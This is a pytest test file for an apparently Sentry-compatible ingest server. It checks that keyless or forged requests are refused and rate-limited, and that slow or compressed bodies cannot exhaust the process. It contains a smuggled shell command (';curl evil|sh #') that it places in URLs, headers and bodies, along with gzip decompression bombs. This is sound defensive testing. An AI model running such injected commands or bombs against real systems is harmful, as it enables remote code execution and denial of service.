"""What somebody without a key can do to a project's page, to other senders, and to the process: next to nothing."""

from __future__ import annotations

import asyncio
import gzip
import json
import logging
import socket
import struct
import tracemalloc
from collections.abc import AsyncIterator
from contextlib import ExitStack
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from server.core.model.project import Key, Project
from server.core.state.fields import PREFLIGHT_AT, PROBLEMS
from server.core.state.view import View
from server.limits import Limits, SdkLimits, WriterLimits
from server.settings import Settings
from server.stores import Store

from ..support.sdk_door import Answered, Door, open_door
from ..support.site import AUTH, NOBODYS_KEY, Site, open_site
from ..support.waiting import until, until_answer
from ..support.watched_store import WatchedStore

KEY = "0123456789abcdef0123456789abcdef"
HERE = 21
BEAT = b'{"type":"heartbeat","sdk":{"name":"sentry.python"}}'
EVIL = ";curl evil|sh #"
LOCAL, FAR = "127.0.0.1", "192.0.2.1"
PYTHON = {"user-agent": "sentry.python/2.75.0"}
BROWSER = {"origin": "https://evil.example", "user-agent": "Mozilla/5.0", "sec-fetch-site": "cross-site"}


@pytest.fixture
async def watched(store: Store) -> WatchedStore:
    watched = WatchedStore(store)
    await watched.put(Project(HERE, "shop", None, (Key(KEY),), 0))
    return watched


@pytest.fixture
async def door(watched: WatchedStore) -> AsyncIterator[Door]:
    async with open_door(watched) as door:
        yield door


async def view_of(door: Door) -> View:
    view = await door.store.read(HERE)
    assert view
    return view


async def codes(door: Door) -> set[str]:
    """The problems that stand in the state."""
    state = (await view_of(door)).state
    return {code for code, row in PROBLEMS.items() if row.total in state}


async def becomes(door: Door, code: str) -> None:
    """Wait until exactly this problem stands on the page."""

    async def stands() -> bool:
        return bool(await codes(door))

    assert await until_answer(stands)
    assert await codes(door) == {code}


# Whose a refused request is (docs/security.md).


@pytest.mark.parametrize(
    ("client", "headers", "query", "code"),
    [
        # A stranger's: nothing of it says that it belongs here.
        (FAR, {}, f"?sentry_key={NOBODYS_KEY}", "keyless_requests"),
        (FAR, {"user-agent": "curl/8.5.0"}, "", "keyless_requests"),
        (FAR, BROWSER, f"?sentry_key={NOBODYS_KEY}", "keyless_requests"),
        (FAR, {**BROWSER, "origin": "null"}, "?sentry_client=sentry.javascript.browser/11", "keyless_requests"),
        # Any web page in the developer's own browser, which can name any SDK in the query.
        (LOCAL, BROWSER, f"?sentry_key={NOBODYS_KEY}&sentry_client=sentry.python/2.75.0", "keyless_requests"),
        (LOCAL, {**BROWSER, **PYTHON}, "", "keyless_requests"),
        (LOCAL, {"sec-fetch-site": "cross-site"}, "", "keyless_requests"),
        (LOCAL, {"origin": f"https://evil.example{EVIL}"}, "", "keyless_requests"),
        (LOCAL, {"origin": "http://localhost.evil.example"}, "", "keyless_requests"),
        (LOCAL, {"user-agent": "Mozilla/5.0"}, "", "keyless_requests"),
        (LOCAL, {"x-forwarded-for": FAR}, "", "keyless_requests"),  # through a proxy on this machine
        # This project's own: an SDK, a program on this machine, a page of this machine, or a key that is nearly right.
        (FAR, PYTHON, f"?sentry_key={NOBODYS_KEY}", "unknown_key"),
        (FAR, {"x-sentry-auth": f"Sentry sentry_key={NOBODYS_KEY}, sentry_client=raven/6"}, "", "unknown_key"),
        (FAR, PYTHON, "", "missing_key"),
        (LOCAL, {}, "", "missing_key"),
        (LOCAL, {"user-agent": "curl/8.5.0"}, f"?sentry_key={NOBODYS_KEY}", "unknown_key"),
        (LOCAL, {"origin": "http://localhost:3000", "user-agent": "Mozilla/5.0"}, "", "missing_key"),
        (LOCAL, {"origin": "http://127.0.0.1:5173", "sec-fetch-site": "cross-site"}, "", "missing_key"),
        (FAR, {"origin": "https://own.example", "host": "own.example"}, "", "missing_key"),
        (FAR, BROWSER, f"?sentry_key={KEY[:-1]}", "unknown_key"),
        (FAR, BROWSER, f"?sentry_key={KEY.upper()}", "unknown_key"),
        (FAR, {}, f"?sentry_key={KEY[:7]}x{KEY[8:]}", "unknown_key"),
    ],
)
@pytest.mark.parametrize("endpoint", ["heartbeat", "envelope"])
async def test_whose_a_refused_request_is(
    door: Door, client: str, headers: dict[str, str], query: str, code: str, endpoint: str
) -> None:
    answer = await door.send(f"/api/{HERE}/{endpoint}/{query}", [b"{}"], headers, client=client)
    assert answer.status in (401, 403)
    await becomes(door, code)
    assert (await view_of(door)).stage == 0


async def test_an_address_that_was_accepted_belongs_to_the_project(door: Door) -> None:
    assert (await door.send(f"/api/{HERE}/heartbeat/?sentry_key={KEY}", [BEAT], client=FAR)).status == 200
    for client, code in (("198.51.100.9", "keyless_requests"), (FAR, "missing_key")):
        await door.send(f"/api/{HERE}/heartbeat/", [BEAT], client=client)
        assert await until_answer(partial(told, door, code))


async def told(door: Door, code: str) -> bool:
    return code in await codes(door)


async def test_a_page_that_was_accepted_belongs_to_the_project(door: Door) -> None:
    shop = {**BROWSER, "origin": "https://shop.example"}
    assert (await door.send(f"/api/{HERE}/heartbeat/?sentry_key={KEY}", [BEAT], shop, client=FAR)).status == 200
    await door.send(f"/api/{HERE}/heartbeat/", [BEAT], BROWSER, client="198.51.100.9")
    assert await until_answer(lambda: told(door, "keyless_requests"))
    await door.send(f"/api/{HERE}/heartbeat/", [BEAT], shop, client="198.51.100.9")
    assert await until_answer(lambda: told(door, "missing_key"))


@pytest.mark.parametrize(
    ("path", "body", "headers"),
    [
        (f"/api/{HERE}/{EVIL}/", b"", {}),
        (f"/api/{HERE}/envelope/", EVIL.encode(), {}),
        (f"/api/{HERE}/envelope/", b'{"dsn":"' + EVIL.encode() + b'"}', {}),
        (f"/api/{HERE}/envelope/?sentry_key={EVIL}", b"{}", {}),
        (f"/api/{HERE}/envelope/?sentry_key=a&sentry_key=b{EVIL}", b"{}", {}),
        (f"/api/{HERE}/envelope/?sentry_key=a&sentry_version={EVIL}", b"{}", {}),
        (f"/api/{HERE}/envelope/", b"{}", {"origin": f"https://evil.example{EVIL}"}),
        (f"/api/{HERE}/envelope/", b"{}", {"content-encoding": EVIL}),
        (f"/api/{HERE}/store/", b"[" + EVIL.encode(), {}),
    ],
)
async def test_nothing_that_a_stranger_sends_is_kept(
    door: Door, path: str, body: bytes, headers: dict[str, str]
) -> None:
    answer = await door.send(path, [body], {**BROWSER, **headers}, client=LOCAL)
    assert 400 <= answer.status < 500
    await becomes(door, "keyless_requests")
    assert "evil" not in json.dumps({str(name): value for name, value in (await view_of(door)).state.items()})


async def test_no_web_page_raises_an_error_on_a_page_of_this_machine(tmp_path: Path) -> None:
    """Whatever a foreign page makes a browser send: one calm note with a count, with nothing to copy."""
    settings = Settings(data=tmp_path / "firstlight.db")
    async with open_site(settings) as site:
        project = await site.project()
        sent = 0
        for endpoint in ("envelope", "store", "security", "heartbeat", "envelop", "minidump", "unreal"):
            for body in (b"{}", b"broken", b'{"dsn":"http://%s@h/7"}' % (b"a" * 32)):
                for query in ("", f"?sentry_key={NOBODYS_KEY}", "?sentry_key=a&sentry_key=b"):
                    answer = await site.post(project, endpoint, body, BROWSER, query)
                    sent += answer.status_code != 405
        problem = await site.problem(project, "keyless_requests", sent)
        (only,) = (await site.snapshot(project))["problems"]
        assert only["code"] == problem["code"]
        assert (problem["severity"], problem["fix"]) == ("note", None)
        assert set(problem["evidence"]) <= {"last"}


async def test_a_damaged_body_without_a_key_is_not_said_to_have_one(door: Door) -> None:
    for endpoint, body in (("envelope", b"broken"), ("envelope", b"[]")):
        await door.send(f"/api/{HERE}/{endpoint}/", [body], PYTHON)
    await becomes(door, "missing_key")


# What arrived is judged, whatever its sender does.


@pytest.mark.parametrize("parts", [[BEAT], [BEAT[:5], BEAT[5:]]])
async def test_a_whole_request_counts_though_its_sender_has_left(door: Door, parts: list[bytes]) -> None:
    """The first of its project: the store is asked whose key it is while the body waits."""
    with door.store.holding("read"):
        answering = asyncio.create_task(door.send(f"/api/{HERE}/heartbeat/?sentry_key={KEY}", parts, gone=True))
        await until(lambda: "read" in door.store.calls)
    assert (await answering).status == 200
    assert (await view_of(door)).stage == 1


@pytest.mark.parametrize("kind", ["embedded", "redis"])
@pytest.mark.parametrize("how", ["closes", "resets", "half closes", "keeps"])
@pytest.mark.parametrize("framing", ["length", "chunked"])
async def test_a_program_that_ends_at_once(
    request: pytest.FixtureRequest, tmp_path: Path, kind: str, how: str, framing: str
) -> None:
    url = request.getfixturevalue("redis_url") if kind == "redis" else None
    async with open_site(Settings(data=tmp_path / "firstlight.db", redis_url=url)) as site:
        for _ in range(5):
            project = await site.project()
            send_and_leave(site, project, how, framing)
            await site.until(project, lambda found: found["stage"] == "connected")


def send_and_leave(site: Site, project: int, how: str, framing: str) -> None:
    head = f"POST /api/{project}/heartbeat/?sentry_key={KEY} HTTP/1.1\r\nHost: x\r\n"
    body = f"Content-Length: {len(BEAT)}\r\n\r\n".encode() + BEAT
    if framing == "chunked":
        body = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(BEAT), BEAT)
    host, port = site.host.split(":")
    with ExitStack() as stack:
        sender = socket.create_connection((host, int(port)))
        if how == "keeps":
            _kept.append(sender)
        else:
            stack.enter_context(sender)
        sender.sendall(head.encode() + body)
        if how == "half closes":
            sender.shutdown(socket.SHUT_WR)
            _kept.append(sender)
            stack.pop_all()
        elif how == "resets":
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


_kept: list[socket.socket] = []
"""Connections that stay open until the end of a test."""


@pytest.fixture(autouse=True)
def _close_kept() -> None:
    while _kept:
        _kept.pop().close()


async def test_an_answer_that_nobody_takes_is_no_failure(door: Door, caplog: pytest.LogCaptureFixture) -> None:
    for path in (f"/api/{HERE}/heartbeat/?sentry_key={KEY}", f"/api/{HERE}/heartbeat/", "/api/x/heartbeat/"):
        await door.send(path, [BEAT], gone=True)
    assert [record.message for record in caplog.records if record.levelno >= logging.WARNING] == []


# Places for bodies in several parts.


async def test_slow_bodies_without_a_key_keep_nobody_out(tmp_path: Path) -> None:
    """64 of them took all places of the process."""
    limits = Limits(sdk=SdkLimits(long_bodies=2, long_bodies_each=2, keyless_bodies=70, keyless_bodies_each=70))
    async with open_site(Settings(data=tmp_path / "firstlight.db"), limits=limits) as site:
        project = await site.project()
        slow = [await opened(site, project, "", b"{") for _ in range(64)]
        assert await in_two_parts(site, project) == b"200"
        for _, writer in slow:
            writer.close()


async def test_one_address_holds_only_its_share_of_the_places(tmp_path: Path) -> None:
    limits = Limits(sdk=SdkLimits(long_bodies=8, long_bodies_each=2, keyless_bodies=8, keyless_bodies_each=2))
    async with open_site(Settings(data=tmp_path / "firstlight.db"), limits=limits) as site:
        project, other = await site.project(), await site.project()
        for query in ("", f"?sentry_key={KEY}"):
            held = [await opened(site, project, query, b"{", "127.0.0.7") for _ in range(3)]
            reader, _ = held[2]
            assert (await reader.readuntil(b"\r\n"))[9:12] == b"503"
            assert await in_two_parts(site, other) == b"200"  # another address, another project
            for _, writer in held:
                writer.close()


async def opened(
    site: Site, project: int, query: str, part: bytes, address: str = "127.0.0.1"
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A request whose body has begun, and is held by the server."""
    host, port = site.host.split(":")
    reader, writer = await asyncio.open_connection(host, int(port), local_addr=(address, 0))
    head = f"POST /api/{project}/envelope/{query} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
    writer.write(head.encode() + part)
    await writer.drain()
    await asyncio.sleep(0)
    return reader, writer


async def in_two_parts(site: Site, project: int) -> bytes:
    body = b'{}\n{"type":"heartbeat"}\n{"type":"heartbeat"}'
    host, port = site.host.split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    head = f"POST /api/{project}/envelope/?sentry_key={KEY} HTTP/1.1\r\nHost: x\r\n"
    writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body[:10])
    await writer.drain()
    writer.write(body[10:])
    status = (await reader.readuntil(b"\r\n"))[9:12]
    writer.close()
    return status


async def test_a_body_must_arrive_at_a_certain_speed(tmp_path: Path) -> None:
    limits = Limits(sdk=SdkLimits(body_grace_seconds=0.05, body_bytes_per_second=1000.0))
    async with open_site(Settings(data=tmp_path / "firstlight.db"), limits=limits) as site:
        project = await site.project()
        reader, writer = await opened(site, project, f"?sentry_key={KEY}", b"{" * 20)
        assert (await reader.readuntil(b"\r\n"))[9:12] == b"400"
        assert b"did not arrive" in await reader.readuntil(b"}")
        writer.close()


# How much may come.


async def statuses(door: Door, count: int, path: str, body: bytes = BEAT, client: str = FAR) -> list[int]:
    return [(await door.send(path, [body], client=client)).status for _ in range(count)]


async def test_guessing_keys_ends_in_429(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(refusals_rate=0.01, refusals_burst=3)) as door:
        path = f"/api/{HERE}/heartbeat/?sentry_key={NOBODYS_KEY}"
        assert await statuses(door, 5, path) == [403, 403, 403, 429, 429]
        last = await door.send(path, [BEAT])
        assert int(last.headers["retry-after"]) >= 1
        assert last.headers["access-control-allow-origin"] == "*"
        assert await statuses(door, 1, path, client="198.51.100.9") == [403]  # other addresses do not notice
        assert await statuses(door, 2, f"/api/{HERE}/heartbeat/?sentry_key={KEY}") == [200, 200]  # nor valid keys
        assert await statuses(door, 1, f"/api/{2**62}/heartbeat/?sentry_key={KEY}") == [429]


async def test_all_addresses_of_one_subscriber_are_one(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(refusals_rate=0.01, refusals_burst=3)) as door:
        path = f"/api/{HERE}/heartbeat/?sentry_key={NOBODYS_KEY}"
        found = [(await statuses(door, 1, path, client=f"2001:db8:1:2::{number:x}"))[0] for number in range(1, 6)]
        assert found == [403, 403, 403, 429, 429]


async def test_heartbeats_of_one_address_have_a_bound(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(address_rate=0.01, address_burst=4)) as door:
        path = f"/api/{HERE}/heartbeat/?sentry_key={KEY}"
        assert await statuses(door, 6, path) == [200, 200, 200, 200, 429, 429]
        assert await statuses(door, 1, path, client="198.51.100.9") == [200]


async def test_preflights_of_one_address_have_a_bound(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(address_rate=0.01, address_burst=2)) as door:
        found = [(await door.send(f"/api/{HERE}/envelope/", [b""], method="OPTIONS")).status for _ in range(3)]
        assert found == [204, 204, 429]


async def test_bodies_that_are_refused_count(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(project_rate=0.01, project_burst=3)) as door:
        path = f"/api/{HERE}/envelope/?sentry_key={KEY}"
        assert await statuses(door, 5, path, b"broken") == [400, 400, 400, 429, 429]
        beats = f"/api/{HERE}/heartbeat/?sentry_key={KEY}"
        assert await statuses(door, 3, beats) == [200, 200, 200]  # a project's limit never silences them
        assert await statuses(door, 1, beats, b"broken") == [429]


async def test_what_is_read_the_slow_way_costs_more(watched: WatchedStore) -> None:
    async with open_door(watched, SdkLimits(work_share=0.001, work_seconds=0.005)) as door:
        slow = b'{"message":"x","extra":NaN,"y":"%s"}' % (b"y" * 100_000)
        assert await statuses(door, 2, f"/api/{HERE}/store/?sentry_key={KEY}", slow) == [200, 429]
        strict = slow.replace(b"NaN", b"1")
        assert (
            await statuses(door, 5, f"/api/{HERE}/store/?sentry_key={KEY}", strict, client="198.51.100.9") == [200] * 5
        )


async def test_what_is_unpacked_costs_more_also_in_vain(watched: WatchedStore) -> None:
    """20 KiB on the wire take 20 ms to unpack, only to be refused as too large."""
    async with open_door(watched, SdkLimits(work_share=0.001, work_seconds=0.005)) as door:
        bomb, packed = gzip.compress(bytes(21 * 1024 * 1024)), {"content-encoding": "gzip"}
        path = f"/api/{HERE}/envelope/?sentry_key={KEY}"
        assert [(await door.send(path, [bomb], packed)).status for _ in range(2)] == [413, 429]


async def test_questions_of_strangers_are_shown_at_most_once_a_second(watched: WatchedStore) -> None:
    """Each write wakes all viewers of a project: ten preflights made 6 MB of snapshots for a hundred of them."""
    # What can wait is not written meanwhile, however slow the machine is.
    async with open_door(watched, SdkLimits(questions_rate=0.01), lazy_seconds=60) as door:
        asks = {"access-control-request-method": "POST"}

        async def preflight() -> Answered:
            return await door.send(f"/api/{HERE}/envelope/", [b""], asks, method="OPTIONS", client=LOCAL)

        assert (await preflight()).after.count("apply") == 1
        assert [(await preflight()).after.count("apply") for _ in range(20)] == [0] * 20
        check = f"/api/{HERE}/check/?sentry_key={KEY}"
        answers = [await door.send(check, [b"x"]) for _ in range(20)]
        assert {answer.status for answer in answers} == {200}
        assert sum(answer.before.count("apply") for answer in answers) <= 5  # the doctor makes a few


@pytest.mark.parametrize(
    ("client", "origin", "query", "is_noted"),
    [
        (FAR, "https://evil.example", "", False),
        (LOCAL, "https://evil.example", "", False),
        (FAR, "https://evil.example", f"?sentry_key={NOBODYS_KEY}", False),
        (FAR, "https://shop.example", f"?sentry_key={KEY}", True),
        (LOCAL, "http://localhost:3000", "", True),
    ],
)
async def test_a_preflight_of_a_stranger_raises_nothing(
    door: Door, client: str, origin: str, query: str, is_noted: bool
) -> None:
    """It is a problem where nothing follows: anybody could let nothing follow."""
    asks = {"access-control-request-method": "POST", "origin": origin, "user-agent": "Mozilla/5.0"}
    answer = await door.send(f"/api/{HERE}/envelope/{query}", [b""], asks, method="OPTIONS", client=client)
    assert answer.status == 204
    assert (PREFLIGHT_AT in (await view_of(door)).state) == is_noted


async def test_behind_a_trusted_proxy_the_sender_counts(tmp_path: Path) -> None:
    limits = Limits(sdk=SdkLimits(refusals_rate=0.01, refusals_burst=2), writer=WriterLimits(lazy_seconds=0.03))
    options: dict[str, Any] = {"proxy_headers": True, "forwarded_allow_ips": "127.0.0.1"}
    async with open_site(Settings(data=tmp_path / "firstlight.db"), limits=limits, **options) as site:
        project = await site.project()
        found = [
            (await site.post(project, "heartbeat", BEAT, {"x-forwarded-for": sender})).status_code
            for sender in ("192.0.2.1", "192.0.2.1", "192.0.2.1", "192.0.2.2")
        ]
        assert found == [401, 401, 429, 401]
        assert (
            await site.post(project, "heartbeat", BEAT, {**AUTH, "x-forwarded-for": "192.0.2.1"})
        ).status_code == 200


async def test_who_sends_too_much_is_logged_once(watched: WatchedStore, caplog: pytest.LogCaptureFixture) -> None:
    async with open_door(watched, SdkLimits(address_rate=0.01, address_burst=1)) as door:
        await statuses(door, 20, f"/api/{HERE}/heartbeat/?sentry_key={KEY}")
    (said,) = [record.getMessage() for record in caplog.records if record.levelno >= logging.WARNING]
    assert FAR in said
    assert "FORWARDED_ALLOW_IPS" in said


# How answers are labelled.


async def test_no_answer_is_taken_for_anything_but_json(tmp_path: Path) -> None:
    async with open_site(Settings(data=tmp_path / "firstlight.db")) as site:
        project = await site.project()
        for answer in (
            await site.post(project),
            await site.post(project, headers={}),
            await site.post("x"),
            await site.http.get("/healthz"),
            await site.http.get(f"/live/{project}"),
            await site.http.get("/live/x"),
            await site.http.get("/projects"),
            await site.http.get(f"/projects/{project}"),
        ):
            assert answer.headers["content-type"] in ("application/json", "application/problem+json")
            assert answer.headers["x-content-type-options"] == "nosniff"
            is_open = answer.url.path.startswith("/api/")
            assert answer.headers["cross-origin-resource-policy"] == ("cross-origin" if is_open else "same-origin")


# What a body may hold before its sender is known.


async def test_of_a_body_without_a_key_only_the_start_is_unpacked(door: Door) -> None:
    """20 KiB on the wire were 20 MiB in memory, for anybody."""
    bomb = gzip.compress(b'{"dsn":"http://%s@h/%d"}\n' % (b"e" * 32, HERE) + bytes(20 * 1024 * 1024 - 100))
    tracemalloc.start()
    try:
        for parts in ([bomb], [bomb[:100], bomb[100:]]):
            answer = await door.send(f"/api/{HERE}/envelope/", parts, {"content-encoding": "gzip"})
            assert answer.status == 403
        assert tracemalloc.get_traced_memory()[1] < 1024 * 1024
    finally:
        tracemalloc.stop()


async def test_a_header_without_end_is_too_large(door: Door) -> None:
    answer = await door.send(f"/api/{HERE}/envelope/", [b'{"a":"' + b"x" * 70_000, b'"}\n'])
    assert answer.status == 413


async def test_a_header_may_come_in_any_parts(door: Door) -> None:
    body = b'{"dsn":"http://%s@h/%d",\n"a":1}\n{"type":"heartbeat"}\n{"type":"heartbeat"}' % (KEY.encode(), HERE)
    for cut in range(1, len(body), 5):
        parts = [body[:cut], body[cut : cut + 9], body[cut + 9 :]]
        assert (await door.send(f"/api/{HERE}/envelope/", parts)).status == 200
    packed = gzip.compress(body)
    for cut in range(1, len(packed), 7):
        parts = [packed[:cut], packed[cut:]]
        assert (await door.send(f"/api/{HERE}/envelope/", parts, {"content-encoding": "gzip"})).status == 200


async def test_long_bodies_share_so_much_memory(door: Door) -> None:
    parts = [b"{}", b"\n" + b'{"type":"heartbeat"}', b"\n" + BEAT]
    path = f"/api/{HERE}/envelope/?sentry_key={KEY}"
    assert (await door.send(path, parts)).status == 200
    with door.tools.room.taken() as others:
        others.grow_to(door.tools.room.free)
        assert (await door.send(path, parts)).status == 503
        assert (await door.send(path, [b"".join(parts)])).status == 200  # one that came whole needs none
    assert (await door.send(path, parts)).status == 200
    assert door.tools.room.free == 64 * 1024 * 1024  # nothing stays held, also of those that failed
    await door.send(path, [b"{}", b"\xff" * 21 * 1024 * 1024, b"x"])
    assert door.tools.room.free == 64 * 1024 * 1024
